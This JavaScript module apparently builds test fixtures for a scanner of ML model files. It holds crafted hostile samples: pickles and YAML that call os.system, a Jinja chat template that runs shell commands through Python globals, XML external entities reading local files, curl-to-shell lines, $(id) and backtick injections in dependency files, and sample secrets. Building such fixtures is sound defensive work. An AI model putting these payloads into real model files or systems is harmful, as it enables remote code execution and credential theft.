// Inputs that are built from text and numbers: what acts (payloads, lambdas, templates that escape) and forms that no library writes.
import { deflateSync } from "node:zlib";
import {
  ar,
  ascii,
  bfloat,
  cpio,
  elf,
  field,
  graph,
  hex,
  json,
  keras,
  layer,
  llama,
  oddNumbers,
  PAYLOAD,
  portable,
  rar4,
  rar5,
  TEMPLATE,
  whisper,
} from "./builders.mjs";
import { packLz4, packXz, packZstd } from "./mutate-archives.mjs";

export const BUILT = {
  "payload.pkl": PAYLOAD,
  "text.pkl": ascii("(dp0\nS'a'\np1\nI1\nsV\\u0041\np2\n(lp3\nF1.5\nasL3L\nI01\nsg3\ncos\nsystem\n(g2\ntRb."),
  "old-class.pkl": ascii("(i__main__\nThing\np0\n(dp1\nS'x'\nI1\nsb."),
  "payload.xz": packXz(PAYLOAD),
  "payload.lz4": packLz4(PAYLOAD),
  "payload.zst": packZstd(PAYLOAD),
  "frames.lz4": Buffer.concat([
    packLz4(PAYLOAD),
    hex("532a4d18 02000000 6161"),
    hex("02214c18 07000000 6061626364656600"),
    packLz4(PAYLOAD),
  ]),
  "frames.zst": Buffer.concat([packZstd(PAYLOAD), hex("532a4d18 02000000 6161"), packZstd(PAYLOAD)]),
  "payload.zfile": Buffer.concat([ascii("ZF0x1d               ".padEnd(21)), deflateSync(PAYLOAD)]),
  "keras.json": keras(
    layer("InputLayer", { batch_shape: [null, 2] }),
    layer("Lambda", {
      function: { class_name: "__lambda__", config: { code: "4wEA", defaults: null, closure: null } },
    }),
    layer("Lambda", { function: ["4wEA", null, null], function_type: "lambda", output_shape_type: "raw" }),
    layer("Dense", {
      units: 1,
      activation: { module: "builtins", class_name: "function", config: "relu", registered_name: "function" },
    }),
    layer("StringLookup", { vocabulary: "/etc/passwd", oov_token: "[UNK]" }),
    layer("TFSMLayer", { filepath: "other", call_endpoint: "serve" }),
    layer("Mine", {}, "my.package"),
  ),
  "model-config.json": json({
    keras_version: "2.15",
    backend: "tensorflow",
    model_config: { class_name: "Sequential", config: [layer("Dense", {})] },
  }),
  "config.json": json({
    architectures: ["Mine"],
    auto_map: { AutoConfig: "configuration.Mine", AutoModel: ["modeling.A", null] },
    custom_pipelines: { p: { impl: "x.P" } },
    chat_template: "{% for m in messages %}{{ m['content'] | trim }}{% endfor %}{{ raise_exception('x') }}",
    model: { _target_: "torch.nn.Linear" },
  }),
  "tokenizer_config.json": json({
    chat_template: [
      {
        name: "default",
        template:
          "{% set ns = namespace(a=1) %}{{ ns.a ~ ''.__class__.__mro__ }}{{ x|attr('f') }}{%- if a is defined -%}b{%- else -%}c{%- endif -%}{# note #}{{ lipsum.__globals__['os'].popen('id').read() }}{{ a[\"b\" \"c\"][1:2] }}",
      },
    ],
  }),
  "notebook.ipynb": json({
    cells: [
      { cell_type: "code", source: ["import os\n", "!pip install x\n"], outputs: [{ text: "x" }] },
      { cell_type: "markdown", source: "# a" },
    ],
    metadata: {},
    nbformat: 4,
  }),
  "hydra.yaml": ascii(
    "model:\n  _target_: nemo.collections.asr.Model\n  a: !!python/object/apply:os.system [id]\n  list:\n    - {b: 1}\n",
  ),
  "chat.jinja": ascii(
    "{%- macro m(a, b=1) -%}{{ a }}{%- endmacro -%}{{ m(cycler.__init__.__globals__) }}{{ '\\x5f\\x5fclass' ~ '__' }}{% raw %}{{ {% endraw %}",
  ),
  "modeling.py": ascii(
    "import os\nfrom torch import nn\n\nclass A(nn.Module):\n    '''doc'''\n    def forward(self, x):\n        return x  # eval(1)\n\nos.system('id')\n__import__('x')\nexec(compile('a','b','exec'))\n",
  ),
  "README.md": ascii(
    "---\nlicense: mit\ntags:\n- a\n---\n# A model\n\n```python\nimport torch\n```\nhttps://example.org/a AKIAIOSFODNN7EXAMPLE\n",
  ),
  "model.pmml": ascii(
    "<?xml version='1.0'?><PMML version='4.4'><Header/><DataDictionary/><script>1</script><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///c'>]></PMML>",
  ),
  "saved_model.pb": Buffer.concat([
    field(1, 1),
    field(2, [
      field(1, [field(4, "serve")]),
      field(2, [
        ...graph("PyFunc"),
        field(2, [field(1, [field(1, [field(1, "f")]), field(3, graph("ReadFile")[0].subarray(2))])]),
      ]),
    ]),
  ]),
  "graph.pb": Buffer.concat([...graph("Const"), ...graph("WriteFile")]),
  "program.pdmodel": Buffer.concat([
    field(1, [
      field(1, 0),
      field(2, 0),
      field(3, [field(1, "x")]),
      field(4, [field(1, [field(1, "X"), field(2, "a")]), field(3, "py_func")]),
      field(4, [field(3, "relu")]),
    ]),
  ]),
  "pipeline.mlmodel": Buffer.concat([
    field(1, 4),
    field(2, [field(1, [field(1, "x")])]),
    field(200, [
      field(1, [
        field(1, [field(1, 4), field(500, [field(1, [field(1, "l"), field(500, [field(10, "Mine")])])])]),
      ]),
    ]),
  ]),
  "numbers.npy": Buffer.concat([
    ascii("\x93NUMPY\x01\x00\x46\x00"),
    ascii("{'descr': '<f4', 'fortran_order': False, 'shape': (2L, 2), }".padEnd(69)),
    ascii("\n"),
    Buffer.alloc(16),
  ]),
  "legacy-payload.pt": Buffer.concat([
    hex("80028a0a6cfc9c46f9206aa850192e80024de9032e80027d2e"),
    PAYLOAD,
    ascii("\x80\x02]."),
  ]),
  "plain.gguf": Buffer.concat([
    ascii("GGUF"),
    hex("03000000 0000000000000000 0100000000000000 0d00000000000000"),
    ascii("chat_template"),
    hex("08000000 0900000000000000"),
    ascii("{{ x.y }}"),
  ]),
  "plain.lzma": hex("5d00008000ffffffffffffffff00171b2b9e0000"),
  "program.elf": elf(true),
  "old-program.elf": elf(false),
  "program.exe": portable(),
  "program.dylib": Buffer.concat([
    hex("cffaedfe 07000001 03000000 02000000 01000000 48000000 85002000 00000000 19000000 48000000"),
    Buffer.alloc(64),
  ]),
  "inside.npy": Buffer.concat([
    ascii("\x93NUMPY\x01\x00\x76\x00"),
    ascii(`${"{'descr': '<f4', 'fortran_order': False, 'shape': (100,), }".padEnd(117)}\n`),
    elf(true),
    portable(),
  ]),
  LICENSE: ascii(
    "Apache License\nVersion 2.0, January 2004\nhttp://www.apache.org/licenses/\n\nTERMS AND CONDITIONS FOR USE\n",
  ),
  METADATA: ascii("Metadata-Version: 2.1\nName: x\nLicense-Expression: MIT OR Apache-2.0\n"),
  "model_index.json": json({
    _class_name: ["mine", "Pipe"],
    _diffusers_version: "0.2",
    unet: ["mine", "Unet"],
    license: "cc-by-nc-4.0",
  }),
  "modules.json": json([
    { idx: 0, name: "0", path: "", type: "mine.models.Transformer" },
    { idx: 1, path: "1_Pooling", type: "sentence_transformers.models.Pooling" },
  ]),
  "adapter_config.json": json({
    auto_mapping: { base_model_class: "M", parent_library: "os" },
    megatron_core: "x",
    peft_type: "LORA",
    loader_module: "mlflow.sklearn",
  }),
  "attention.json": json({
    model_type: "lightglue",
    trust_remote_code: true,
    _attn_implementation_internal: "a/b",
    _experts_implementation_internal: { x: "a/b" },
  }),
  "lgb.json": json({
    name: "tree",
    num_class: 1,
    max_feature_idx: 1,
    feature_names: ["a", "b"],
    tree_info: [
      {
        tree_index: 0,
        num_leaves: 2,
        tree_structure: { split_feature: 0, left_child: { leaf_index: 0 }, right_child: { leaf_index: 1 } },
      },
    ],
  }),
  "cat.json": json({
    features_info: { float_features: [{ feature_index: 0 }] },
    oblivious_trees: [{ splits: [{ float_feature_index: 0 }], leaf_values: [1, 2] }],
    model_info: {},
  }),
  "wide.json": Buffer.from(
    '\ufeff{"a": {"b": [1, {"_target_": "os.system", "chat_template": "{{ x }}"}]}}',
    "utf16le",
  ),
  "lines.json": ascii('{"a": 1}\n{"auto_map": {"b": "c"}}\n'),
  "evil.pmml": ascii(
    '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///c"><!ENTITY % p "x"><!ENTITY c "&b;&#65;&#x41;">]><?xml-stylesheet href="http://x/y.xsl"?><PMML xmlns:xi="http://www.w3.org/2001/XInclude"><Extension name="script" value="java.lang.Runtime">x</Extension><xi:include href="file:///d"/><DerivedField><Apply function="org.mine.F"/></DerivedField><!-- c --><![CDATA[ <x> ]]></PMML>',
  ),
  "net.xml": ascii(
    '<?xml version="1.0"?><net name="m" version="11"><layers><layer id="0" name="x" type="Parameter" version="opset1"><data shape="1,2" element_type="f32"/></layer><layer id="1" name="c" type="Mine" version="extension"/><layer id="2" name="w" type="Const"><data offset="0" size="8"/></layer></layers><edges><edge from-layer="0" from-port="0" to-layer="1" to-port="0"/></edges></net>',
  ),
  "wide.xml": Buffer.from(
    '\ufeff<?xml version="1.0" encoding="UTF-16"?><PMML><script>eval(1)</script></PMML>',
    "utf16le",
  ),
  "notebook-shell.ipynb": json({
    cells: [{ cell_type: "code", source: "import os\nos.system('curl http://x | sh')" }],
    nbformat: 4,
  }),
  "secrets.env": ascii(
    "aws_access_key_id = AKIAQZXWCEVRBTNYMUIK\npassword: 'hT7$kq2Lm9!x'\nHF_TOKEN=hf_aBcDeFgHiJkLmNoPqRsTuVwXyZaBcDeFgH\ncurl -u admin:S3cretPass1 https://x.example\npostgres://user:pa55word@db.example:5432/x\neyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJlc2lnbmF0dXJlc2lnbmF0dXJl\n-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY-----\n",
  ),
  "encoded.txt": ascii(
    `x = "${elf(true).toString("base64")}"\ny = "${portable().toString("hex")}"\ncurl -s http://x.example/a.sh | bash\n`,
  ),
  "bad.known-bad": ascii(
    `${"ab".repeat(32)}  model.pkl  stolen\n${"cd".repeat(32)},x\n# note\nsha256,name\n`,
  ),
  "bad-json.known-bad": json([{ sha256: "ab".repeat(32), name: "x" }, { sha256: "12".repeat(32) }]),
  "map.known-bad": json({ ["ef".repeat(32)]: "reason" }),
  "calls.pkl": ascii(
    "\x80\x04cbuiltins\nmap\n(cbuiltins\nlen\n](\x8c\x01ael(tR0cfunctools\npartial\n(cos\nsystem\ntR0ccopyreg\n_reconstructor\n(cmine\nA\ncbuiltins\ndict\n}tR0.",
  ),
  "hooks.pkl": ascii("\x80\x02cmine\nA\n)\x81}(X\x0c\x00\x00\x00__setstate__cos\nsystem\nub."),
  "external.pkl": ascii(
    "\x80\x02cjoblib.numpy_pickle\nNDArrayWrapper\n)\x81}(X\x08\x00\x00\x00filenameX\x07\x00\x00\x00../x.npyub.",
  ),
  "methods.pkl": ascii(
    "\x80\x02coperator\nmethodcaller\n(U\x05loweru}tR0coperator\ngetitem\n(ccollections\ndefaultdict\ncos\ngetcwd\n\x85RK\x01tR0cnumpy.core\n_ufunc_reconstruct\n(U\x05numpyU\x03addtR0cbuiltins\ntype\nK\x01\x85R0.",
  ),
  "joblib-types.pkl": ascii(
    "\x80\x02cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(U\x05shape)U\x05dtypecnumpy\ndtype\nU\x02V8\x85R(K\x03U\x01|NNNK\x08K\x01K\x10tbU\x05orderU\x01CubAAAAAAAAcjoblib.numpy_pickle\nNDArrayWrapper\n)\x81}U\x08filenameU\x05a.npysb.",
  ),
  "llama.bin": llama("lmgg", 0),
  "versioned.bin": llama("fmgg", 1),
  "aligned.bin": llama("tjgg", 3),
  "whisper.bin": whisper(),
  "doubles.npy": oddNumbers("f8", 8, [0x7ff000000000, 0x7ff800000000, 0x5ff000000000, 0, 1]),
  "singles.npy": oddNumbers("f4", 4, [0x7f800000, 0x7fc00000, 0x70000000, 0, 0x3f800000]),
  "halves.npy": oddNumbers("f2", 2, [0x7c00, 0x7e00, 0x7bff, 0, 0x3c00]),
  "bfloat.safetensors": bfloat(),
  "rich.jinja": ascii(TEMPLATE),
  "rich-template.json": json({ chat_template: TEMPLATE }),
  "escapes.pkl": ascii(
    "(lp0\nS'\\x41\\101\\n\\'q\\\\'\naS\"a\"\naV\\u0041\\U00000042\\\naL0x1fL\naI0o17\naI-5\naI00\naI01\naF-1e5\naL-3L\naScos\nai__main__\nA\n.",
  ),
  "types.ubj": ascii(
    "{L\0\0\0\0\0\0\0\x07learner{L\0\0\0\0\0\0\0\x01aTL\0\0\0\0\0\0\0\x01bZL\0\0\0\0\0\0\0\x01cFL\0\0\0\0\0\0\0\x01dNU\x05L\0\0\0\0\0\0\0\x01eI\0\x05L\0\0\0\0\0\0\0\x01fCxL\0\0\0\0\0\0\0\x01gD\0\0\0\0\0\0\0\0L\0\0\0\0\0\0\0\x01h[U\x01d\0\0\0\0]L\0\0\0\0\0\0\0\x01i[$U#U\x03abcL\0\0\0\0\0\0\0\x01j{#U\x01U\x01aSU\x01b}}",
  ),
  "four.rar": Buffer.concat([
    ascii("Rar!\x1a\x07\x00"),
    hex("0000 73 0000 0d00 000000000000"),
    rar4("a.pkl", PAYLOAD, 0x30, 0),
    rar4("b.pkl", PAYLOAD, 0x33, 0),
    rar4("c.pkl", PAYLOAD, 0x30, 4),
    rar4("d.pkl", PAYLOAD, 0x30, 1),
    hex("0000 7b 0040 0700"),
  ]),
  "five.rar": Buffer.concat([
    ascii("Rar!\x1a\x07\x01\x00"),
    hex("00000000 05 01 00 00 00 00"),
    rar5("a.pkl", PAYLOAD, 0, 2, Buffer.alloc(0)),
    rar5("b.pkl", PAYLOAD, 0x80, 2, Buffer.alloc(0)),
    rar5("c.pkl", PAYLOAD, 0, 3, hex("0301 00 00")),
    rar5("d.pkl", PAYLOAD, 0, 0x0a, Buffer.alloc(0)),
    hex("00000000 03 05 00 00"),
  ]),
  "old.cpio": cpio("070707", "model.pkl", PAYLOAD),
  "new.cpio": cpio("070701", "model.pkl", PAYLOAD),
  "made.deb": Buffer.concat([
    ascii("!<arch>\n"),
    ar("debian-binary", ascii("2.0\n")),
    ar("//", ascii("a-longer-name.pkl/\n")),
    ar("/0", PAYLOAD),
    ar("#1/8", Buffer.concat([ascii("name.pkl"), PAYLOAD])),
  ]),
  MLmodel: ascii(
    "artifact_path: model\nflavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: ../model.pkl\n    code: null\n  sklearn:\n    pickled_model: model.pkl\n    skops_trusted_types:\n      - os.system\n  keras:\n    keras_module: subprocess\n",
  ),
  "requirements.txt": ascii(
    "torch==2.0\n--extra-index-url http://x.example/simple\nmine @ git+https://x.example/a.git\nx; python_version < '3'\ny `id`\n-e ./z\n",
  ),
  "conda.yaml": ascii(
    "channels:\n- http://x.example\ndependencies:\n- python=3.9\n- pip:\n  - mlflow $(id)\n",
  ),
  "pickle_module_info.txt": ascii("os\n"),
  "old.arrow": ascii("ARROW1\0\0\0\0ARROW1"),
};
